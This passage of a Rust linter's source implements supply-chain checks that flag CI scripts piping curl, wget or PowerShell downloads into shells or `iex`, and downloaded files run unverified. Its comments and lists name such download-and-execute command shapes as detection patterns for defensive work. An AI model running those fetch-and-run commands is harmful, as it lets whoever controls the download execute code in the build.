//! What the supply-chain rules (PL6xxx) read in a job's scripts: downloads that are
//! executed, tools installed from moving references, privileged containers, outsider
//! text reaching the shell. Built on the shell scanner (`shell`), so a command after
//! `&&`, in a pipeline or inside `if … then` is read like any other.

use crate::creds::Locator;
use crate::shell::{expansions, Command, VarRef, Word};
use crate::RuleMeta;
use crate::{JobCx, ScannedScript};
use plumb_diagnostics::{Diagnostic, Edit, FileRange, Fix};
use plumb_semantics::{Value, ValueKind};
use std::collections::HashMap;

/// A finding in a script: where, what, and a related place.
pub struct ScriptHit {
    pub at: FileRange,
    pub message: String,
    pub label: String,
    pub related: Option<(FileRange, String)>,
    /// Mechanical fixes (quote an expansion, verify a download before running it).
    pub fixes: Vec<Fix>,
}

impl ScriptHit {
    /// The diagnostic of `rule` for this finding, with `help`.
    pub fn into_diagnostic(self, rule: &RuleMeta, help: &str) -> Diagnostic {
        let mut d = Diagnostic::new(rule.code, rule.severity(), self.at, self.message)
            .with_label(self.label)
            .with_help(help);
        if let Some((at, message)) = self.related {
            d = d.with_secondary(at, message);
        }
        d.fixes = self.fixes;
        d
    }
}

const DOWNLOADERS: &[&str] = &["curl", "wget", "fetch"];
const INTERPRETERS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "ash",
    "fish",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "pwsh",
    "powershell",
];

/// `/usr/bin/bash` is `bash`.
pub(crate) fn base(name: &str) -> &str {
    name.rsplit('/').next().unwrap_or(name)
}

pub(crate) fn is_interpreter(name: &str) -> bool {
    // `python3.11` is `python3`; `$SHELL` and `$BASH` name the shell running the script
    let unversioned = base(name).trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    INTERPRETERS.contains(&base(name))
        || INTERPRETERS.contains(&unversioned)
        || matches!(name, "$SHELL" | "${SHELL}" | "$BASH" | "${BASH}")
}

/// PowerShell's downloaders (`iwr`, `irm`) and what runs their output as code (`iex`):
/// the Windows runner's `curl … | sh`.
const POWERSHELL_DOWNLOADERS: &[&str] = &["iwr", "irm", "invoke-webrequest", "invoke-restmethod"];
const POWERSHELL_RUNNERS: &[&str] = &["iex", "invoke-expression"];

/// A downloader's name, from the command's program (`busybox wget` is `wget`; PowerShell
/// names in any case).
fn downloader(c: &Command) -> Option<&'static str> {
    let (program, _) = program_and_args(c)?;
    let name = base(program);
    let lower = name.to_ascii_lowercase();
    DOWNLOADERS
        .iter()
        .chain(POWERSHELL_DOWNLOADERS)
        .find(|d| **d == name || (POWERSHELL_DOWNLOADERS.contains(d) && **d == lower))
        .copied()
}

/// The range of `word` in the source, through the script's literal.
pub(crate) fn at(cx: &JobCx, script: &ScannedScript, w: &Word) -> FileRange {
    Locator::new(cx.sources, script.text, script.origin).range(w.start, w.end)
}

/// The values of the options `names` (`-p X`, `--package X`, `--package=X`; the last
/// is the word itself).
fn option_values<'c>(args: &'c [Word], names: &[&str]) -> Vec<&'c Word> {
    let mut out = Vec::new();
    for (i, w) in args.iter().enumerate() {
        if names.contains(&w.text.as_str()) {
            out.extend(args.get(i + 1));
        } else if (names.iter())
            .any(|n| n.starts_with("--") && w.text.starts_with(&format!("{n}=")))
        {
            out.push(w);
        }
    }
    out
}

/// The arguments that are not options (`-x`, `--flag`), with the values of the options
/// that take one skipped where `takes_value` says so.
pub(crate) fn operands<'c>(args: &'c [Word], takes_value: &[&str]) -> Vec<&'c Word> {
    let mut out = Vec::new();
    let mut skip = false;
    for w in args {
        if skip {
            skip = false;
            continue;
        }
        if w.text.starts_with('-') && w.text.len() > 1 {
            skip = takes_value.contains(&w.text.as_str());
            continue;
        }
        out.push(w);
    }
    out
}

/// An interpreter that runs what it reads on standard input: `sh`, `bash -s`,
/// `python -`, not `bash script.sh`.
fn runs_stdin(c: &Command) -> bool {
    let Some((name, args)) = program_and_args(c) else {
        return false;
    };
    if POWERSHELL_RUNNERS.contains(&base(name).to_ascii_lowercase().as_str()) {
        return true;
    }
    // `curl … | source /dev/stdin`: the shell itself runs what it reads
    if matches!(name, "source" | ".") {
        return args
            .iter()
            .any(|a| matches!(a.text.as_str(), "/dev/stdin" | "/proc/self/fd/0"));
    }
    if base(name) == "ssh" {
        return ssh_runs_stdin(args);
    }
    // `python3 -mjson.tool`: a module, which reads its input as data
    let module = args.iter().any(|a| a.text.starts_with("-m"));
    if !is_interpreter(name) || module {
        return false;
    }
    // `bash -n` reads the code for its syntax only
    if args.iter().any(|a| a.text == "-n") {
        return false;
    }
    let from_stdin = |a: &&Word| a.text == "/dev/stdin" || a.text == "-";
    args.iter().any(|a| a.text == "-s" || a.text == "-")
        || operands(args, &["-c", "-o", "-O"]).iter().all(from_stdin)
            && !args.iter().any(|a| is_code_flag(name, &a.text))
}

/// PL6002: a download piped into an interpreter (`curl … | sh`), a process or command
/// substitution of a download run as code (`bash <(curl …)`, `eval "$(wget …)"`), and a
/// downloaded file executed with no checksum or signature check between.
pub fn download_and_execute(cx: &JobCx) -> Vec<ScriptHit> {
    let mut hits = Vec::new();
    let mut files = Downloads::default();
    let mut held = Vec::new();
    for script in cx.scripts() {
        piped_downloads(cx, script, &mut hits);
        powershell_downloads(cx, script, &mut hits);
        substituted_downloads(cx, script, &mut held, &mut hits);
        nested_downloads(cx, script, &mut hits);
        for c in &script.commands {
            files.record(cx, script, c, &mut hits);
        }
    }
    hits
}

/// Shell code a command hands to another shell (`bash -c "curl … | sh"`, `sudo sh -c
/// '…'`, `powershell -c "irm … | iex"`): its downloads run as code too. Found at the
/// command (one level: the code's own `-c` strings are not read again).
fn nested_downloads(cx: &JobCx, script: &ScannedScript, hits: &mut Vec<ScriptHit>) {
    for c in &script.commands {
        let Some((program, args)) = program_and_args(c) else {
            continue;
        };
        let Some(text) = nested_code(program, args) else {
            continue;
        };
        let text = text.as_str();
        let lower = text.to_ascii_lowercase();
        let downloads = DOWNLOADERS
            .iter()
            .chain(POWERSHELL_DOWNLOADERS)
            .any(|d| lower.contains(d))
            || lower.contains("downloadstring(");
        if !downloads {
            continue;
        }
        let inner = ScannedScript {
            text,
            origin: script.origin,
            commands: crate::shell::scan(text),
        };
        let mut found = Vec::new();
        piped_downloads(cx, &inner, &mut found);
        powershell_downloads(cx, &inner, &mut found);
        substituted_downloads(cx, &inner, &mut Vec::new(), &mut found);
        let (Some(name_word), Some(f)) = (c.name_word(), found.into_iter().next()) else {
            continue;
        };
        hits.push(ScriptHit {
            at: at(cx, script, name_word),
            message: format!("the shell code `{}` runs: {}", name_word.text, f.message),
            label: f.label,
            related: None,
            fixes: Vec::new(),
        });
    }
}

/// The shell code a command hands to another shell: `bash -c CODE`, `su -c CODE`
/// (`runuser -l app -c CODE`: the user's shell), `powershell -c CODE`, a container's
/// `sh -c CODE` (`docker exec C sh -c …`), and the remote command of `ssh HOST …`.
fn nested_code(program: &str, args: &[Word]) -> Option<String> {
    if base(program) == "ssh" {
        let words = ssh_remote_command(args);
        let text: Vec<&str> = words.iter().map(|&i| args[i].text.as_str()).collect();
        return (!text.is_empty()).then(|| text.join(" "));
    }
    if let Some(at) = container_shell_code(program, args) {
        return args.get(at).map(|w| w.text.clone());
    }
    let shell = matches!(
        base(program),
        "sh" | "bash" | "dash" | "zsh" | "ash" | "ksh" | "mksh" | "su" | "runuser"
    ) || matches!(
        base(program).to_ascii_lowercase().as_str(),
        "pwsh" | "powershell"
    );
    let code_flag = |a: &Word| is_code_flag(program, &a.text);
    let code = args
        .iter()
        .position(code_flag)
        .and_then(|i| args.get(i + 1));
    code.filter(|_| shell).map(|w| w.text.clone())
}

/// What PowerShell downloads as text without a downloader command of its own: a web
/// client's `DownloadString(…)`, and `irm`/`iwr` in parentheses.
const POWERSHELL_DOWNLOAD_CALLS: &[&str] = &[
    "downloadstring(",
    "downloaddata(",
    "(irm ",
    "(iwr ",
    "(invoke-restmethod ",
    "(invoke-webrequest ",
];

/// PowerShell running a download as code with no pipe between commands: `iex (irm
/// URL)`, `Invoke-Expression ((New-Object Net.WebClient).DownloadString('URL'))`, and
/// `(New-Object Net.WebClient).DownloadString('URL') | iex` (what `irm URL | iex` is
/// to [`piped_downloads`]). Found at the `iex`.
fn powershell_downloads(cx: &JobCx, script: &ScannedScript, hits: &mut Vec<ScriptHit>) {
    for c in &script.commands {
        let Some(runner) = c.name_word() else {
            continue;
        };
        if !POWERSHELL_RUNNERS.contains(&runner.text.to_ascii_lowercase().as_str()) {
            continue;
        }
        // the runner's line: what it is given, and what is piped into it
        let line_start = script.text[..runner.start].rfind('\n').map_or(0, |i| i + 1);
        let line_end =
            (script.text[runner.end..].find('\n')).map_or(script.text.len(), |i| runner.end + i);
        let window =
            |from: usize, to: usize| script.text.get(from..to).unwrap_or("").to_ascii_lowercase();
        let given = window(runner.end, line_end.min(runner.end + COMMAND_WINDOW));
        let piped = window(
            line_start.max(runner.start.saturating_sub(COMMAND_WINDOW)),
            runner.start,
        );
        let argument = given.trim_start().starts_with('(')
            && POWERSHELL_DOWNLOAD_CALLS.iter().any(|d| given.contains(d));
        let web_client = c.piped_in && piped.contains("downloadstring(");
        if !(argument || web_client) {
            continue;
        }
        hits.push(ScriptHit {
            at: at(cx, script, runner),
            message: format!(
                "`{}` runs what PowerShell downloads: whoever controls the download runs code in the job",
                runner.text
            ),
            label: "runs the download".to_string(),
            related: None,
            fixes: Vec::new(),
        });
    }
}

fn piped_downloads(cx: &JobCx, script: &ScannedScript, hits: &mut Vec<ScriptHit>) {
    let cmds = &script.commands;
    // one for the script, asked in its order: a block of thousands of `curl | sh`
    // lines is read once, not from its start for each
    let locate = Locator::new(cx.sources, script.text, script.origin);
    for (i, c) in cmds.iter().enumerate() {
        let Some(name) = downloader(c) else { continue };
        if !c.piped_out {
            continue;
        }
        if fetches_own_commit(c, &HashMap::new()) {
            continue;
        }
        let mut j = i + 1;
        // the commands of a substitution in the pipe's words (`sh -s -- -b $(go env
        // GOPATH)/bin`) are scanned before the command they are in
        while cmds
            .get(j)
            .is_some_and(|n| n.substitution != c.substitution)
        {
            j += 1;
        }
        while let Some(next) = cmds.get(j).filter(|n| n.piped_in) {
            if runs_stdin(next) {
                let (Some(dl), Some(run)) = (c.name_word(), next.name_word()) else {
                    break;
                };
                let downloaded_at = locate.range(dl.start, dl.end);
                hits.push(ScriptHit {
                    at: locate.range(run.start, run.end),
                    message: format!(
                        "the output of `{}` is run by `{}`: whoever controls the download runs code in the job",
                        base(name),
                        run.text
                    ),
                    label: "runs the download".to_string(),
                    related: Some((downloaded_at, "downloaded here".to_string())),
                    fixes: (!POWERSHELL_DOWNLOADERS.contains(&name))
                        .then(|| verify_pipe_fix((script, &locate), c, next))
                        .flatten()
                        .into_iter()
                        .collect(),
                });
                break;
            }
            if !next.piped_out {
                break;
            }
            j += 1;
            while cmds
                .get(j)
                .is_some_and(|n| n.substitution != c.substitution)
            {
                j += 1;
            }
        }
    }
}

const VERIFY_TITLE: &str =
    "check the download's SHA-256 before running it (fill in the checksum it must have)";

/// The shell that checks `file` against a checksum to fill in.
fn checksum_line(file: &str) -> String {
    format!("echo '<sha256>  {file}' | sha256sum -c - && ")
}

/// A file name that needs no quoting in the shell or in a Plumb string.
fn plain_file_name(name: &str) -> bool {
    !name.is_empty()
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._-/".contains(c))
}

/// `curl URL | sh` becomes `curl URL -o FILE && echo '<sha256>  FILE' | sha256sum -c -
/// && sh FILE`, when curl writes to standard output and the shell takes no arguments.
fn verify_pipe_fix(
    (script, locate): (&ScannedScript, &Locator),
    curl: &Command,
    run: &Command,
) -> Option<Fix> {
    let writes_file = curl.args().iter().any(|a| {
        a.text.starts_with("-o")
            || a.text.starts_with("-O")
            || a.text.starts_with("--output")
            || a.text == "--remote-name"
    });
    if curl.name().map(base) != Some("curl")
        || writes_file
        || !run.args().is_empty()
        || run.piped_out
        || run.name_index() != Some(0)
        || !run.assignments.is_empty()
        || after_alternative(curl, script.text)
    {
        return None;
    }
    let (last, runner) = (curl.words.last()?, run.name_word()?);
    // only `curl … | sh`: a stage between (`| gunzip |`) changes what runs
    if script.text.get(last.end..runner.start).map(str::trim) != Some("|") {
        return None;
    }
    let url = curl.args().iter().rev().find(|a| a.text.contains("://"))?;
    let from_url = url
        .text
        .split(['?', '#'])
        .next()?
        .rsplit('/')
        .next()
        .unwrap_or("");
    // a name of its own, so that the download cannot replace a file of the project
    let file = if plain_file_name(from_url) && from_url.contains('.') && !from_url.contains('/') {
        format!("downloaded-{from_url}")
    } else {
        "downloaded-install.sh".to_string()
    };
    let file = file.as_str();
    let range = exact_range_in(locate, script, last.end, runner.end)?;
    Some(Fix {
        title: VERIFY_TITLE.to_string(),
        edits: vec![Edit {
            at: range,
            replacement: format!(
                " -o {file} && {}{} {file}",
                checksum_line(file),
                runner.text
            ),
        }],
    })
}

/// Whether `c` follows `||` (or `|`): a check put before it would bind to the left
/// side (`a || check && run` runs unchecked when `a` succeeds).
fn after_alternative(c: &Command, text: &str) -> bool {
    c.words
        .first()
        .and_then(|w| text.get(..w.start))
        .is_some_and(|before| before.trim_end().ends_with('|'))
}

/// Puts a checksum check of `file` before the command that runs it.
fn verify_file_fix(cx: &JobCx, script: &ScannedScript, run: &Command, file: &str) -> Option<Fix> {
    if run.name_index() != Some(0)
        || !run.assignments.is_empty()
        || run.piped_in
        || !plain_file_name(file)
        || after_alternative(run, script.text)
    {
        return None;
    }
    let first = run.words.first()?;
    let range = exact_range(cx, script, first.start, first.end)?;
    Some(Fix {
        title: VERIFY_TITLE.to_string(),
        edits: vec![Edit {
            at: FileRange {
                file: range.file,
                range: plumb_diagnostics::TextRange::new(
                    range.range.start as usize,
                    range.range.start as usize,
                ),
            },
            replacement: checksum_line(file),
        }],
    })
}

/// `bash <(curl …)`, `source <(wget …)`, `eval "$(curl …)"`, `sh -c "$(curl …)"`, with
/// backquotes too (`` eval "`curl …`" ``), fed to a shell (`bash < <(curl …)`, `sh <<<
/// "$(curl …)"`), or kept in a variable the script runs (`S=$(curl …); eval "$S"`).
fn substituted_downloads(
    cx: &JobCx,
    script: &ScannedScript,
    held: &mut Vec<HeldDownload>,
    hits: &mut Vec<ScriptHit>,
) {
    let text = script.text;
    run_held_downloads(text, held, hits);
    let openers = (text.match_indices("<(").chain(text.match_indices("$(")))
        .map(|(i, _)| (i, 2))
        .chain(text.match_indices('`').map(|(i, _)| (i, 1)));
    let locate = Locator::new(cx.sources, script.text, script.origin);
    for (i, opener) in openers {
        let inner = past_wrappers(text[i + opener..].trim_start());
        let Some(tool) = DOWNLOADERS.iter().find(|d| {
            inner.starts_with(*d) && inner[d.len()..].starts_with(|ch: char| ch.is_whitespace())
        }) else {
            continue;
        };
        let at = locate.range(
            i,
            i + opener + (text[i + opener..].len() - inner.len()) + tool.len(),
        );
        let runner = match code_runner_before(&text[..i]) {
            Some(runner) => runner,
            // `S=$(curl …)`: run where the script runs `$S` as code, here or later
            None => match held_in_variable(&text[..i]) {
                // (a variable filled again is held once: each would search the rest)
                Some(var) if held.iter().any(|h| h.variable == var) => continue,
                Some(var) => match run_later(&text[i..], var) {
                    Some(runner) => runner,
                    None => {
                        let names =
                            std::iter::once(var.to_string()).chain(copies_in(&text[i..], var));
                        let downloads = names.map(|variable| HeldDownload { variable, tool, at });
                        hold(held, downloads.collect());
                        continue;
                    }
                },
                None => continue,
            },
        };
        hits.push(download_run_as_code(tool, &runner, at));
    }
}

/// The downloads earlier lines kept in variables that this line runs as code (one
/// finding per download, whichever copy runs it); the variables it copies them into
/// (`T="$S"`) hold them for later lines.
fn run_held_downloads(text: &str, held: &mut Vec<HeldDownload>, hits: &mut Vec<ScriptHit>) {
    let mut copies = Vec::new();
    let mut ran = Vec::new();
    // the line is read once for the names it expands and assigns: only those held
    // variables are looked at again (a thousand held downloads cost no more per line)
    let expanded: std::collections::HashSet<String> = (expansions(text).into_iter())
        .filter(|v| !v.indirect)
        .map(|v| v.name)
        .collect();
    let assigned = assigned_names(text);
    // a variable this line fills again before it reads it holds something else (a new
    // download in it is held again where it is read)
    held.retain(|h| {
        !assigned.contains(h.variable.as_str()) || !filled_before_read(text, &h.variable)
    });
    for h in held.iter().filter(|h| expanded.contains(&h.variable)) {
        match run_later(text, &h.variable) {
            Some(runner) if !ran.contains(&h.at) => {
                hits.push(download_run_as_code(h.tool, &runner, h.at));
                ran.push(h.at);
            }
            Some(_) => {}
            None => copies.extend(copies_in(text, &h.variable).map(|variable| HeldDownload {
                variable,
                tool: h.tool,
                at: h.at,
            })),
        }
    }
    held.retain(|h| !ran.contains(&h.at));
    hold(held, copies);
}

/// The names `text` may assign (`S=…`, `export S=…`): each word before an `=`.
fn assigned_names(text: &str) -> std::collections::HashSet<&str> {
    let b = text.as_bytes();
    let mut out = std::collections::HashSet::new();
    for (i, _) in text.match_indices('=') {
        let start = (b[..i]
            .iter()
            .rposition(|c| !(c.is_ascii_alphanumeric() || *c == b'_')))
        .map_or(0, |p| p + 1);
        if start < i {
            out.insert(&text[start..i]);
        }
    }
    out
}

/// Whether `text` assigns `var` (`S=…`, `export S=…`) before any expansion of it.
fn filled_before_read(text: &str, var: &str) -> bool {
    let assigned = text.match_indices(&format!("{var}=")).find_map(|(i, _)| {
        let at_word = text[..i]
            .chars()
            .next_back()
            .is_none_or(|c| c.is_whitespace() || c == ';');
        at_word.then_some(i)
    });
    let read = expansions_of(text, var).next().map(|(i, _)| i);
    match (assigned, read) {
        (Some(a), Some(r)) => a < r,
        (Some(_), None) => true,
        _ => false,
    }
}

/// The variables `text` copies `var` into (`T="$S"`, `export T=${S}`).
fn copies_in<'t>(text: &'t str, var: &str) -> impl Iterator<Item = String> + 't {
    expansions_of(text, var).filter_map(|(i, _)| held_in_variable(&text[..i]).map(str::to_string))
}

/// Follows more variables holding downloads, each once, up to a bound.
fn hold(held: &mut Vec<HeldDownload>, downloads: Vec<HeldDownload>) {
    for d in downloads {
        held.retain(|h| h.variable != d.variable);
        // the oldest gives way: sixteen downloads kept as data must not hide the next
        if held.len() >= MOST_HELD_DOWNLOADS {
            held.remove(0);
        }
        held.push(d);
    }
}

/// How many copies of one download's variable the rest of a line is searched for
/// (each search reads the rest of the line again).
const MOST_COPIES_FOLLOWED: usize = 16;

/// How many variables holding downloads a job's scripts follow (a later line is read
/// once for the names it expands, then only those are looked at): more than a script
/// fills, so that downloads kept as data cannot push a held one out.
const MOST_HELD_DOWNLOADS: usize = 1024;

/// A substitution's text past what runs the next word (`command curl`, `\curl`,
/// `busybox wget`, `CURL_CA_BUNDLE=x curl`), a few words at most.
fn past_wrappers(mut inner: &str) -> &str {
    for _ in 0..4 {
        // a wrapper's word is short: looked for in the first bytes only (each opener of
        // a line of `$($($(…` would read to the line's end)
        let Some(word_end) = inner.bytes().take(64).position(|c| c.is_ascii_whitespace()) else {
            break;
        };
        let word = &inner[..word_end];
        let assignment = word.split_once('=').is_some_and(|(n, _)| {
            !n.is_empty() && n.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
        });
        if let Some(rest) = inner.strip_prefix('\\') {
            inner = rest;
        } else if matches!(word, "command" | "busybox" | "exec") || assignment {
            inner = inner[word_end..].trim_start();
        } else {
            break;
        }
    }
    inner
}

/// A download a script line keeps in a variable (`S=$(curl …)`), until a line runs it.
pub struct HeldDownload {
    variable: String,
    tool: &'static str,
    at: FileRange,
}

fn download_run_as_code(tool: &str, runner: &str, at: FileRange) -> ScriptHit {
    ScriptHit {
        at,
        message: format!("the output of `{tool}` is run as code by `{runner}`: whoever controls the download runs code in the job"),
        label: "runs the download".to_string(),
        related: None,
        fixes: Vec::new(),
    }
}

/// The program that runs, as code, the text that follows `before` (a substitution or a
/// variable's expansion): an interpreter given it as a file or a program string (`bash
/// <(…)`, `sh -c "…"`, `perl -e "…"`), `source`, `.`, `eval`, or a shell whose standard
/// input it is (`bash -s -- < <(…)`, `sh <<< "…"`, `source /dev/stdin <<< "…"`).
fn code_runner_before(before: &str) -> Option<String> {
    let before = last_bytes(before, COMMAND_WINDOW);
    let before = before.trim_end().trim_end_matches(['"', '\'']).trim_end();
    // the command the text belongs to: back to the nearest `;`, `|`, `&`, line break or
    // opening substitution
    let command = before
        .rsplit([';', '|', '&', '\n', '(', '`'])
        .next()
        .unwrap_or(before);
    let words: Vec<&str> = command.split_whitespace().collect();
    let (program, args) = program_of(&words)?;
    let name = base(program);
    if name == "eval" {
        // `eval` runs all its arguments joined
        return Some(name.to_string());
    }
    if !(is_interpreter(program) || matches!(name, "source" | ".")) {
        return None;
    }
    let Some((last, between)) = args.split_last() else {
        // `bash <(…)`, `source <(…)`
        return Some(program.to_string());
    };
    let code_flag = is_code_flag(program, last);
    // `bash -s -- < <(…)`: options only between the program and the redirection (a
    // script named there reads the input as data)
    let input = matches!(*last, "<" | "<<<")
        && between
            .iter()
            .all(|w| w.starts_with('-') || *w == "/dev/stdin");
    let file = last.starts_with('-') && !code_flag && between.iter().all(|w| w.starts_with('-'));
    (code_flag || input || file).then(|| program.to_string())
}

/// How far around a variable's expansion the command that runs it is looked for (a
/// longer command is not read: each expansion must cost a bounded look).
const COMMAND_WINDOW: usize = 4096;

/// The last `n` bytes of `text` or fewer, cut at a character boundary.
fn last_bytes(text: &str, n: usize) -> &str {
    let mut start = text.len().saturating_sub(n);
    while !text.is_char_boundary(start) {
        start += 1;
    }
    &text[start..]
}

/// The first `n` bytes of `text` or fewer, cut at a character boundary.
fn first_bytes(text: &str, n: usize) -> &str {
    let mut end = n.min(text.len());
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// An option that gives `program` its code as the next word: `-c` (a shell's, Python's,
/// PowerShell's `-Command`), `-e` (Perl's, Ruby's, Node's; a shell's `-e` is errexit),
/// `-r` (PHP's), and a cluster of options ending in one (`bash -lc`, `perl -le`).
fn is_code_flag(program: &str, word: &str) -> bool {
    let letter = match base(program).trim_end_matches(|c: char| c.is_ascii_digit() || c == '.') {
        "perl" | "ruby" | "node" => 'e',
        "php" => 'r',
        _ => 'c',
    };
    let cluster = word.strip_prefix('-').filter(|w| {
        !w.starts_with('-') && !w.is_empty() && w.bytes().all(|c| c.is_ascii_alphabetic())
    });
    let named = matches!(word, "--eval" | "-Command" | "-command");
    // (`perl -E` is `-e` with the newer features)
    named || (word == "-E" && letter == 'e') || cluster.is_some_and(|w| w.ends_with(letter))
}

/// The program of a command's words and its arguments: past assignments (`X=1 bash`)
/// and the wrappers that run the next word (`sudo -E`, `env`, `exec`, `command`).
fn program_of<'w>(words: &'w [&'w str]) -> Option<(&'w str, &'w [&'w str])> {
    let mut i = 0;
    while let Some(w) = words.get(i) {
        let assignment = w.split_once('=').is_some_and(|(n, _)| {
            !n.is_empty() && n.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
        });
        let wrapper = matches!(*w, "sudo" | "env" | "exec" | "command" | "nohup" | "time");
        let after_sudo = words[..i].contains(&"sudo");
        let wrapper_option = i > 0 && w.starts_with('-') && after_sudo;
        if !(assignment || wrapper || wrapper_option) {
            return Some((w, &words[i + 1..]));
        }
        // `sudo -u app bash`: the user is the option's
        let takes_value = after_sudo
            && matches!(
                *w,
                "-u" | "-g" | "-C" | "-D" | "-h" | "-p" | "-r" | "-t" | "-U" | "-T"
            );
        i += if takes_value { 2 } else { 1 };
    }
    None
}

/// `NAME=` (or `export NAME=`) right before a substitution: the variable it fills.
fn held_in_variable(before: &str) -> Option<&str> {
    let before = last_bytes(before, COMMAND_WINDOW).trim_end_matches(['"', '\'']);
    let assignment = before
        .rsplit(|ch: char| ch.is_whitespace() || ch == ';')
        .next()?;
    let name = assignment.strip_suffix('=')?;
    let valid = name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
        && name.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_');
    valid.then_some(name)
}

/// The program that later runs `$var` (or `${var}`) as code, in `after`: as the argument
/// of a runner (`eval "$S"`), fed to a shell through a pipe (`echo "$S" | sh`), or
/// through copies (`T="$S"; eval "$T"`; at most [`MOST_COPIES_FOLLOWED`] variables).
fn run_later(after: &str, var: &str) -> Option<String> {
    // (where the variable is filled, its name): each name followed once
    let mut followed: Vec<(usize, String)> = vec![(0, var.to_string())];
    let mut next = 0;
    while let Some((from, name)) = followed.get(next).cloned() {
        next += 1;
        for (i, end) in expansions_of(&after[from..], &name) {
            let (i, end) = (from + i, from + end);
            let runner = code_runner_before(&after[..i]).or_else(|| piped_to_runner(&after[end..]));
            if runner.is_some() {
                return runner;
            }
            let copy = held_in_variable(&after[..i]).map(str::to_string);
            let new = copy.filter(|c| followed.iter().all(|(_, f)| f != c));
            if let Some(copy) = new.filter(|_| followed.len() < MOST_COPIES_FOLLOWED) {
                followed.push((end, copy));
            }
        }
    }
    None
}

/// Where `text` expands `$var` or `${var}`: (start, end) of each, as the shell reads it
/// (not in single quotes).
fn expansions_of(text: &str, var: &str) -> impl Iterator<Item = (usize, usize)> {
    let found: Vec<(usize, usize)> = expansions(text)
        .into_iter()
        .filter(|v| v.name == var && !v.indirect)
        .map(|v| (v.start, v.end))
        .collect();
    found.into_iter()
}

/// The shell that the rest of a command pipes into, when it runs its input as code:
/// `| sh`, `| bash -s`, not `| sh script.sh` or `|| true`.
fn piped_to_runner(rest: &str) -> Option<String> {
    let rest = first_bytes(rest, COMMAND_WINDOW);
    let (command_end, _) = rest.match_indices([';', '&', '|', '\n', ')']).next()?;
    let piped = rest[command_end..].strip_prefix('|')?;
    if piped.starts_with('|') {
        return None;
    }
    let command = piped.split([';', '|', '&', ')']).next().unwrap_or(piped);
    let words: Vec<&str> = command.split_whitespace().collect();
    let (program, args) = program_of(&words)?;
    let stdin = args
        .iter()
        .all(|w| w.starts_with('-') || *w == "/dev/stdin");
    (is_interpreter(program) && stdin && !args.contains(&"-c")).then(|| program.to_string())
}

/// Files a job downloads, until a checksum or signature check vouches for them.
#[derive(Default)]
struct Downloads {
    /// (file name, where it was downloaded)
    pending: Vec<(String, FileRange)>,
    /// The script's plain assignments so far (`url="…"`), to read a URL given as `"$url"`.
    assigned: HashMap<String, String>,
    /// Files a check vouches for only within what it guards (`check && sh f`, `if
    /// check; then …; fi`): back to `pending` past that, with (script, end offset).
    guarded: Vec<((String, FileRange), usize, usize)>,
}

impl Downloads {
    fn record(
        &mut self,
        cx: &JobCx,
        script: &ScannedScript,
        c: &Command,
        hits: &mut Vec<ScriptHit>,
    ) {
        let Some(name) = c.name() else {
            for (var, word) in c.assigned_words() {
                let value = word.text.split_once('=').map_or("", |(_, v)| v);
                self.assigned.insert(var.to_string(), value.to_string());
            }
            return;
        };
        self.unguard(script.text, c);
        if let Some(kind) = check_of(c, script.text, &self.assigned) {
            self.vouch(script.text, c, kind);
            return;
        }
        if DOWNLOADERS.contains(&base(name)) {
            if fetches_own_commit(c, &self.assigned) {
                return;
            }
            let file = downloaded_file(c).or_else(|| piped_archive(c));
            if let (Some(file), Some(w)) = (file, c.name_word()) {
                self.pending.push((file, at(cx, script, w)));
            }
            return;
        }
        let moved = moved_files(c, &self.pending);
        if !moved.is_empty() {
            self.pending.extend(moved);
            return;
        }
        if let Some(tree) = extracted_tree(c, &self.pending) {
            self.pending.push(tree);
            return;
        }
        // the program itself (`./node app.js`: a download named like an interpreter), or
        // the file it runs (`/bin/bash x.sh`)
        let program = Some(name.to_string()).filter(|n| n.contains('/'));
        let runs: Vec<String> = program.into_iter().chain(executed_file(c)).collect();
        let found = match runs.is_empty() {
            false => (self.pending.iter())
                .position(|(f, _)| runs.iter().any(|r| same_file(f, r) || in_tree(f, r))),
            // a bare name runs what a folder of `PATH` holds
            true => self.pending.iter().position(|(f, _)| {
                f.rsplit_once('/')
                    .is_some_and(|(dir, file)| file == name && ON_PATH.contains(&dir))
            }),
        };
        let Some((file, from)) = found.map(|i| self.pending[i].clone()) else {
            return;
        };
        // one finding per download: its copies and later runs are the same cause
        self.pending.retain(|(_, at)| *at != from);
        let unpacked = file.starts_with(TREE_HERE) || file.ends_with('/');
        if let Some(w) = c.name_word() {
            let (message, fixes) = match runs.first() {
                Some(program) if unpacked => (
                    format!("`{program}` comes from an archive downloaded and unpacked with no checksum or signature check"),
                    Vec::new(),
                ),
                _ => (
                    format!("`{file}` is downloaded and run with no checksum or signature check"),
                    verify_file_fix(cx, script, c, &file).into_iter().collect(),
                ),
            };
            hits.push(ScriptHit {
                at: at(cx, script, w),
                message,
                label: "runs the downloaded file".to_string(),
                related: Some((from, "downloaded here".to_string())),
                fixes,
            });
        }
    }
}

impl Downloads {
    /// What a checksum or signature check vouches for: the pending files its line names
    /// (`echo '… install.sh' | sha256sum -c -`, `gpg --verify x.sh.asc x.sh`, a digest
    /// variable's assignment naming it); when it names none, every one if a program
    /// reads a list of checksums (`sha256sum -c SHA256SUMS`) or a signature, none if it
    /// checks an image (`cosign verify IMAGE`), what it is fed, or compares a digest. A
    /// check whose failure is ignored (`|| true`, `! check`, `check &`) vouches for
    /// nothing; one whose failure only skips what it guards (`check && sh f`, `if check;
    /// then …; fi`) vouches for the files only there.
    fn vouch(&mut self, text: &str, c: &Command, kind: CheckKind) {
        let (Some(first), Some(last)) = (c.name_word(), c.words.last()) else {
            return;
        };
        // the pipeline before the program (`if ! echo '…' | `): what its failure does
        let pipeline_start = pipeline_start(text, first.start);
        let before = &text[pipeline_start..first.start];
        let condition = before.trim_start();
        let rest = &text[last.end..];
        let until = if kind == (CheckKind::Compare { inverted: true }) {
            if !inverted_check_stops(before, rest) {
                return;
            }
            None
        } else {
            // `until check; do …; done` runs its body while the check fails
            let ignored = condition.starts_with("! ") || condition.starts_with("until ");
            if failure_ignored(rest) || ignored || negated_check_goes_on(before, rest) {
                return;
            }
            guarded_until(text, last.end, before)
        };
